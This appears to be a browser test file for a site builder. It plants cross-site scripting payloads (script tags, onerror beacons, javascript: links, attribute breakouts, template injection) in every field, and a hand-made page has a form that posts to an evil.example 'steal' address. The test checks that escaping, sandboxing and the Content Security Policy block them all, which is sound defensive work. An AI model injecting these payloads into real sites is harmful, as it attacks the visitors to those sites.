// Published sites in a real browser (playwright-core driving Debian's chromium): a site is built over
// REST with script planted in every field a draft, a form and the site settings hold, published, and
// opened by its address (Host `<label>.sites.test`, mapped to loopback by the browser's resolver) and at
// /sites/<label>/ on the application host. It renders (screenshots in test-artifacts/), its form is
// submitted with script in every input, and nothing ever executes: no dialog, no beacon request, no
// `window.__x`, no CSP report from the site's own pages. A hand-made version holding real scripts (an
// HTML page, a top-level SVG) shows the second layer: the policy blocks them, and reports what it blocks.
// Then a restart: the instance keeps serving the sites, their versions, media and addresses.
// Skipped when no chromium.
import { CHROMIUM, chromiumAvailable, startTestInstance, type TestInstance } from '@tributary/test';
import { commitEvents } from '@tributary/services';
import assert from 'node:assert/strict';
import { createHash, randomUUID } from 'node:crypto';
import { mkdir, rm } from 'node:fs/promises';
import http from 'node:http';
import { fileURLToPath } from 'node:url';
import { chromium, type Browser, type BrowserContext, type Page } from 'playwright-core';
import { afterAll, beforeAll, describe, test } from 'vitest';
import * as images from '../harness/images.js';
import { signUp, type Loose, type Person } from './mcp-helpers.js';

const SITES_DOMAIN = 'sites.test';
const ARGS = [
  '--headless',
  '--no-sandbox',
  '--disable-gpu',
  '--disable-background-networking',
  '--disable-component-update',
  '--disable-sync',
  '--no-first-run',
  // Every address under the test's SITES_DOMAIN is this machine, as a wildcard DNS record would make it.
  `--host-resolver-rules=MAP *.${SITES_DOMAIN} 127.0.0.1`,
];
const ARTIFACTS = fileURLToPath(new URL('../../../test-artifacts/builder-sites-browser/', import.meta.url));

/**
 * Script hidden in plain text the draft schema accepts (no `<` starting a tag): quotes breaking out of
 * an attribute into event handlers, a javascript: URL as text, an entity-encoded script tag, a template
 * expression. Escaped by the renderer, each shows as the text it is.
 */
const planted = (tag: string) =>
  `${tag} " autofocus onfocus="alert('${tag}')" onmouseover="new Image().src='/__beacon?${tag}'" x=" ` +
  `' onclick='window.__x=1' javascript:alert(1) &lt;script&gt;alert(1)&lt;/script&gt; {{constructor.constructor('alert(1)')()}}`;
/** Real markup, where a field takes any text (form labels, options, the success message): escaped too. */
const tags = (tag: string) =>
  `${tag} <script>alert('${tag}')</script><img src=x onerror="new Image().src='/__beacon?${tag}'">`;
/** The Markdown subset with raw HTML off: a script in a code span, an escaped tag, a link with quotes. */
const plantedMarkdown = (tag: string) =>
  `**${tag}** \`<script>alert('${tag}')</script>\` and \\<img src=x onerror=alert(1)\\> ` +
  `[a link](https://example.org/?q=%22onmouseover=alert(1)) " onfocus="alert('${tag}')"`;

interface Watch {
  dialogs: string[];
  beacons: string[];
  console: string[];
}

/** A page that records every dialog, every request to the beacon, and the console. */
async function watchedPage(context: BrowserContext): Promise<{ page: Page; watch: Watch }> {
  const page = await context.newPage();
  const watch: Watch = { dialogs: [], beacons: [], console: [] };
  page.on('dialog', (d) => {
    watch.dialogs.push(d.message());
    void d.dismiss();
  });
  page.on('request', (r) => {
    if (r.url().includes('__beacon')) watch.beacons.push(r.url());
  });
  page.on('console', (m) => watch.console.push(m.text()));
  return { page, watch };
}

/** Gives every handler a chance: focus moves through the page, the pointer passes over every element. */
async function poke(page: Page): Promise<void> {
  for (let i = 0; i < 25; i++) await page.keyboard.press('Tab');
  // Read through DevTools (the page itself runs no script); tests have no DOM types, hence a string.
  const boxes = (await page.evaluate(`[...document.querySelectorAll('body *')].slice(0, 200).map((e) => {
    const r = e.getBoundingClientRect();
    return { x: r.x + r.width / 2, y: r.y + r.height / 2 };
  })`)) as { x: number; y: number }[];
  for (const b of boxes) if (b.x > 0 && b.y > 0 && b.y < 2000) await page.mouse.move(b.x, b.y);
}

/** What a script that ran would have left: `window.__x`, read through DevTools (not the page's own script). */
async function counter(page: Page): Promise<unknown> {
  return page.evaluate('window.__x');
}

function getBytes(
  port: number,
  host: string,
  path: string,
): Promise<{ status: number; headers: Loose; body: Buffer }> {
  return new Promise((resolve, reject) => {
    http
      .get({ host: '127.0.0.1', port, path, headers: { host } }, (res) => {
        const chunks: Buffer[] = [];
        res.on('data', (c: Buffer) => chunks.push(c));
        res.on('end', () =>
          resolve({ status: res.statusCode!, headers: res.headers, body: Buffer.concat(chunks) }),
        );
      })
      .on('error', reject);
  });
}

describe.skipIf(!chromiumAvailable())('published sites in a real browser', () => {
  let instance: TestInstance;
  let browser: Browser;
  let ada: Person;
  let port: number;
  let siteId: string;
  let formId: string;
  let mediaSha: string;
  const label = 'planted';
  const siteHost = () => `${label}.${SITES_DOMAIN}:${port}`;
  const siteUrl = (path = '/') => `http://${siteHost()}${path}`;
  const pathUrl = (path = '/') => `${instance.url}/sites/${label}${path}`;

  const op = async (name: string, input: Loose, ok = [200, 201]) => {
    const r = await ada.browser.post(`/api/ops/${name}`, input);
    assert.ok(ok.includes(r.status), `${name}: ${r.status} ${r.text}`);
    return r.json as Loose;
  };
  const shot = (page: Page, name: string) =>
    // An SVG document takes no full-page capture (Playwright measures the page with an HTML body).
    page.screenshot({
      path: `${ARTIFACTS}${name}.png`,
      ...(name.endsWith('svg') ? { caret: 'initial', animations: 'allow' } : { fullPage: true }),
    });

  beforeAll(async () => {
    await rm(ARTIFACTS, { recursive: true, force: true });
    await mkdir(ARTIFACTS, { recursive: true });
    instance = await startTestInstance({ env: { SITES_DOMAIN } });
    port = Number(new URL(instance.url).port);
    ada = await signUp(instance.url, 'ada');
    browser = await chromium.launch({ executablePath: CHROMIUM, args: ARGS });
  });
  afterAll(async () => {
    await browser?.close();
    await instance?.destroy();
  });

  test('given script in every field of a draft, a form and the settings, then the markup is refused and the rest is saved', async () => {
    // An image, uploaded and re-encoded; an SVG carrying a script is refused whatever its name.
    const upload = async (bytes: Buffer, filename: string) => {
      const f = new FormData();
      f.append('alt', 'a blue square');
      f.append('file', new Blob([bytes]), filename);
      const res = await fetch(`${instance.url}/api/builder/media`, {
        method: 'POST',
        headers: { cookie: ada.browser.cookie },
        body: f,
      });
      return { status: res.status, json: (await res.json()) as Loose };
    };
    const png = await upload(await images.png(120, 80), 'square.png');
    assert.equal(png.status, 201, JSON.stringify(png.json));
    const media = png.json.result.media ?? png.json.result;
    const mediaId: string = media.mediaId;
    mediaSha = media.sha256;
    for (const name of ['evil.svg', 'evil.png']) {
      const svg = await upload(images.svgWithScript(), name);
      assert.equal(svg.status, 400);
      assert.equal(svg.json.code, 'builder.media_unsupported_type');
    }

    const form = await op('svc.builder.create_form', {
      name: `Contact <script>alert('form-name')</script>`,
      fields: [
        { type: 'text', name: 'name', label: tags('label-name'), required: true, placeholder: tags('ph') },
        { type: 'email', name: 'email', label: tags('label-email'), required: true },
        { type: 'select', name: 'topic', label: tags('label-topic'), options: [tags('option-1'), 'Other'] },
        { type: 'textarea', name: 'message', label: tags('label-message') },
      ],
      successMessage: tags('thanks'),
    });
    formId = form.result.form.formId;

    const site = await op('svc.builder.create_site', { title: 'Planted' });
    siteId = site.result.siteId;
    await op('svc.builder.update_site', {
      siteId,
      title: planted('site-title').slice(0, 120),
      description: planted('site-description'),
    });
    const claimed = await ada.browser.post('/api/builder/address', { siteId, label });
    assert.equal(claimed.status, 201, claimed.text);

    const blocksWith = (p: string) => [
      { type: 'heading', level: 1, text: planted(`${p}heading`) },
      { type: 'text', markdown: plantedMarkdown(`${p}text`) },
      { type: 'image', mediaId, alt: planted(`${p}alt`), caption: planted(`${p}caption`), link: '/about' },
      {
        type: 'gallery',
        items: [{ mediaId, alt: planted(`${p}gallery-alt`), caption: planted(`${p}gallery-caption`) }],
      },
      { type: 'links', items: [{ label: planted(`${p}link`), url: 'https://example.org/?a="b"' }] },
      { type: 'button', label: planted(`${p}button`), url: '/about' },
      { type: 'divider' },
    ];
    const document = {
      schemaVersion: 1,
      pages: [
        {
          path: '/',
          title: planted('page-title'),
          description: planted('page-description'),
          blocks: [
            ...blocksWith(''),
            {
              type: 'columns',
              columns: [
                { blocks: blocksWith('col1-') },
                { blocks: [{ type: 'heading', text: planted('col2') }] },
              ],
            },
            { type: 'form', formId },
          ],
        },
        {
          path: '/about',
          title: planted('about-title'),
          blocks: [{ type: 'heading', text: planted('about') }],
        },
      ],
      navigation: { items: [{ label: planted('nav'), url: '/about' }] },
      footer: { markdown: plantedMarkdown('footer'), links: [{ label: planted('footer-link'), url: '/' }] },
    };
    const draft = (await op('svc.builder.read_draft', { siteId })).result;

    // Real markup in any plain-text field, raw HTML or a javascript: link in Markdown: refused, nothing saved.
    const refusals: [string, (d: Loose) => void][] = [
      ['heading', (d) => (d.pages[0].blocks[0].text = '<script>alert(1)</script>')],
      ['alt', (d) => (d.pages[0].blocks[2].alt = '"><img src=x onerror=alert(1)>')],
      ['page title', (d) => (d.pages[1].title = '</title><script>alert(1)</script>')],
      ['markdown html', (d) => (d.pages[0].blocks[1].markdown = 'hi <script>alert(1)</script>')],
      ['markdown link', (d) => (d.footer.markdown = '[x](javascript:alert(1))')],
      ['nav', (d) => (d.navigation.items[0].label = '<svg onload=alert(1)>')],
      ['link url', (d) => (d.pages[0].blocks[4].items[0].url = 'javascript:alert(1)')],
    ];
    for (const [what, plant] of refusals) {
      const bad = structuredClone(document) as Loose;
      plant(bad);
      const r = await ada.browser.call('PUT', '/api/builder/draft', {
        siteId,
        revision: draft.revision,
        document: bad,
      });
      assert.equal(r.status, 400, `${what}: ${r.text}`);
      assert.ok(
        ['builder.unsafe_content', 'builder.link_invalid', 'input.invalid'].includes(r.json.code),
        `${what}: ${r.json.code}`,
      );
    }
    const saved = await ada.browser.call('PUT', '/api/builder/draft', {
      siteId,
      revision: draft.revision,
      document,
    });
    assert.equal(saved.status, 201, saved.text);
    const published = await op('svc.builder.publish', { siteId });
    assert.equal(published.result.published, true);
    await instance.sites.refresh(siteId);
  });

  test('given the published site, when opened by its address and at /sites/<label>/, then it renders, shows the planted text as text, and runs nothing', async () => {
    const reportsBefore = instance.sites.stats().cspReports;
    const context = await browser.newContext();
    // The application's session cookie is in the browser too; a site page must not reach it.
    await context.addCookies([{ name: 'tributary_session', value: 'secret', url: instance.url }]);
    try {
      for (const [name, url] of [
        ['by-address-home', siteUrl('/')],
        ['by-address-about', siteUrl('/about/')],
        ['by-path-home', pathUrl('/')],
        ['by-path-about', pathUrl('/about/')],
      ] as const) {
        const { page, watch } = await watchedPage(context);
        const res = await page.goto(url);
        assert.equal(res?.status(), 200, url);
        const headers = res!.headers();
        assert.match(headers['content-security-policy']!, /default-src 'none'/);
        assert.equal(headers['set-cookie'], undefined);
        await page.waitForLoadState('load');
        // It renders: the theme's stylesheet applies (the honeypot is off-screen) and the image decodes.
        if (name.endsWith('home')) {
          const img = page.locator('figure img').first();
          await img.waitFor();
          assert.equal(
            await page.evaluate(
              `document.querySelector('figure img').complete && document.querySelector('figure img').naturalWidth`,
            ),
            120,
            'image loaded',
          );
          const hp = await page.locator('.hp').first().boundingBox();
          assert.ok(
            !hp || hp.x + hp.width <= 0 || hp.y + hp.height <= 0 || hp.width <= 1,
            'the honeypot is hidden',
          );
          const heading = await page.locator('main h1').first().textContent();
          assert.equal(heading, planted('heading'), 'the planted text shows as text');
          assert.match(
            (await page.locator('form label').first().textContent()) ?? '',
            /<script>alert\('label-name'\)<\/script>/,
          );
        }
        await poke(page);
        await shot(page, name);
        assert.deepEqual(watch.dialogs, [], `${name}: dialogs`);
        assert.deepEqual(watch.beacons, [], `${name}: beacons`);
        assert.equal(await counter(page), undefined, `${name}: window.__x`);
        // The page's origin is opaque (sandbox): the application's cookies are out of its reach.
        const cookie = await page.evaluate(
          `(() => { try { return document.cookie } catch (e) { return 'blocked: ' + e.name } })()`,
        );
        assert.equal(cookie, 'blocked: SecurityError', `${name}: document.cookie`);
        await page.close();
      }
      // The site's own pages break no rule of the policy: nothing was reported.
      await new Promise((r) => setTimeout(r, 300));
      assert.equal(instance.sites.stats().cspReports, reportsBefore);
      // The site origin never set a cookie.
      const siteCookies = await context.cookies(siteUrl('/'));
      assert.deepEqual(siteCookies, []);
    } finally {
      await context.close();
    }
  });

  test('given the form, when a visitor submits it with script in every input, then the thank-you page shows and the owner reads the values as sent', async () => {
    const context = await browser.newContext();
    try {
      for (const [name, url] of [
        ['form-by-address', siteUrl('/')],
        ['form-by-path', pathUrl('/')],
      ] as const) {
        const { page, watch } = await watchedPage(context);
        await page.goto(url);
        const field = (i: number) => page.locator(`#form1-f${i}`);
        await field(1).fill(`<script>alert('${name}')</script>`);
        await field(2).fill('visitor@example.org');
        await field(3).selectOption({ index: 1 });
        await field(4).fill(
          `"><img src=x onerror="new Image().src='/__beacon?${name}'"> ' onfocus='alert(1)`,
        );
        await shot(page, `${name}-filled`);
        const [answer] = await Promise.all([
          page.waitForNavigation(),
          page.locator('form.site-form button').click(),
        ]);
        assert.equal(answer?.status(), 200, await page.content());
        assert.match(
          (await page.locator('body').textContent()) ?? '',
          /thanks <script>alert\('thanks'\)<\/script>/,
        );
        await poke(page);
        await shot(page, `${name}-thanks`);
        assert.deepEqual(watch.dialogs, []);
        assert.deepEqual(watch.beacons, []);
        assert.equal(await counter(page), undefined);
        await page.close();
      }
    } finally {
      await context.close();
    }
    const listed = (await op('svc.builder.list_submissions', { formId })).result;
    const values = (listed.submissions as Loose[]).map((s) => s.values.name).sort();
    assert.deepEqual(values, [
      "<script>alert('form-by-address')</script>",
      "<script>alert('form-by-path')</script>",
    ]);
  });

  test('given a version holding real scripts (a page, an SVG), then the policy blocks every one and reports what it blocks', async () => {
    // Written as the publish operation writes a version, with files no renderer would make.
    const files: Record<string, [string, string]> = {
      '/index.html': [
        'text/html; charset=utf-8',
        `<!doctype html><html><head><title>Scripts</title>
<script>window.__x = 1; alert('inline');</script>
<script src="/__beacon?external-script"></script>
<style>body { background: #fdd }</style>
</head><body style="border: 4px solid red">
<h1 onmouseover="alert('handler')" autofocus onfocus="window.__x = 2">Planted scripts</h1>
<img src="x" onerror="new Image().src='/__beacon?onerror'">
<img src="http://evil.example/tracker.png" alt="elsewhere">
<a id="js" href="javascript:alert('link')">a javascript: link</a>
<iframe src="/evil.svg"></iframe>
<object data="/evil.svg"></object>
<form action="http://evil.example/steal" method="post"><button id="steal">send</button></form>
</body></html>`,
      ],
      '/evil.svg': ['image/svg+xml', images.svgWithScript('/__beacon').toString()],
    };
    const manifest: { path: string; sha256: string; contentType: string; length: number }[] = [];
    for (const [path, [contentType, text]] of Object.entries(files)) {
      const { sha256, length } = await instance.instance.services.builder.blobs.put(Buffer.from(text));
      manifest.push({ path, sha256, contentType, length });
    }
    manifest.sort((a, b) => a.path.localeCompare(b.path));
    const evil = (await op('svc.builder.create_site', { title: 'Scripts' })).result;
    const claimed = await ada.browser.post('/api/builder/address', { siteId: evil.siteId, label: 'scripts' });
    assert.equal(claimed.status, 201, claimed.text);
    const stream = `site-${evil.siteId}`;
    const versionId = randomUUID();
    const manifestHash = createHash('sha256').update(JSON.stringify(manifest)).digest('hex');
    await commitEvents(
      instance.instance.services,
      [stream],
      () => [
        {
          stream,
          type: 'site.version_created',
          data: { versionId, draftRevision: 1, manifestHash, manifest },
        },
        {
          stream,
          type: 'site.published',
          data: {
            siteId: evil.siteId,
            ownerAgentId: ada.agentId,
            versionId,
            manifestHash,
            manifest,
            title: 'Scripts',
          },
        },
      ],
      ada.agentId,
    );
    await instance.sites.refresh(evil.siteId);

    const before = instance.sites.stats().cspReports;
    const context = await browser.newContext();
    try {
      for (const [name, url] of [
        ['scripts-page', `http://scripts.${SITES_DOMAIN}:${port}/`],
        ['scripts-svg', `http://scripts.${SITES_DOMAIN}:${port}/evil.svg`],
        ['scripts-page-by-path', `${instance.url}/sites/scripts/`],
      ] as const) {
        const { page, watch } = await watchedPage(context);
        const res = await page.goto(url);
        assert.equal(res?.status(), 200);
        await page.waitForLoadState('load');
        await poke(page);
        await shot(page, name);
        if (name === 'scripts-page') {
          await page.locator('#js').click({ noWaitAfter: true });
          await page.locator('#steal').click({ noWaitAfter: true });
          await page.waitForTimeout(300);
        }
        assert.deepEqual(watch.dialogs, [], `${name}: dialogs`);
        assert.deepEqual(watch.beacons, [], `${name}: beacons`);
        assert.equal(await counter(page), undefined, `${name}: window.__x`);
        assert.ok(
          watch.console.some((m) => /sandboxed|Content Security Policy/.test(m)),
          `${name}: the browser says what it blocked: ${watch.console.join(' | ')}`,
        );
        await page.close();
      }
    } finally {
      await context.close();
    }
    // The policy's refusals (the style, the image from elsewhere, the form posting elsewhere) reach the
    // site's report address.
    const deadline = Date.now() + 5000;
    while (instance.sites.stats().cspReports === before && Date.now() < deadline)
      await new Promise((r) => setTimeout(r, 100));
    assert.ok(instance.sites.stats().cspReports > before, 'CSP reports received');
  });

  test('given a restart, then the instance keeps serving the site, its versions, its media and its address', async () => {
    const host = `${label}.${SITES_DOMAIN}`;
    const first = await getBytes(port, host, '/');
    assert.equal(first.status, 200);
    const firstVersion = (await op('svc.builder.read_site', { siteId })).result.publication.versionId;
    // A second version, published, so a rollback has somewhere to go after the restart.
    const draft = (await op('svc.builder.read_draft', { siteId })).result;
    const document = structuredClone(draft.document);
    document.pages[0].blocks.unshift({ type: 'heading', level: 2, text: 'Second version' });
    await op('svc.builder.save_draft', { siteId, revision: draft.revision, document });
    await op('svc.builder.publish', { siteId });
    await instance.sites.refresh(siteId);
    const second = await getBytes(port, host, '/');
    assert.match(second.body.toString(), /Second version/);
    // The page names its image by the media item's hash, whatever format it was stored in.
    const mediaPath = new RegExp(`/_media/${mediaSha}\\.[a-z]+`).exec(second.body.toString())![0];
    const mediaBefore = await getBytes(port, host, mediaPath);

    instance = await instance.restart();
    assert.ok(instance.sites.stats().sites >= 2, 'the index is loaded at start');
    const afterRestart = await getBytes(port, host, '/');
    assert.equal(afterRestart.status, 200);
    assert.ok(afterRestart.body.equals(second.body), 'the same bytes after the restart');
    assert.equal(afterRestart.headers.etag, second.headers.etag);
    const byPath = await getBytes(port, `127.0.0.1:${port}`, `/sites/${label}/`);
    assert.ok(byPath.body.equals(second.body));
    const mediaAfter = await getBytes(port, host, mediaPath);
    assert.equal(mediaAfter.status, mediaBefore.status);
    assert.ok(mediaAfter.body.equals(mediaBefore.body));
    assert.match(String(mediaAfter.headers['cache-control']), /immutable/);
    // The theme's stylesheet carries its hash in its name too: immutable as well.
    const css = /_assets\/site\.[0-9a-f]+\.css/.exec(second.body.toString())![0];
    const stylesheet = await getBytes(port, host, `/${css}`);
    assert.equal(stylesheet.status, 200);
    assert.match(String(stylesheet.headers['cache-control']), /immutable/);

    await op('svc.builder.rollback', { siteId, versionId: firstVersion });
    await instance.sites.refresh(siteId);
    const back = await getBytes(port, host, '/');
    assert.ok(back.body.equals(first.body), 'the first version’s bytes exactly');
  });
});
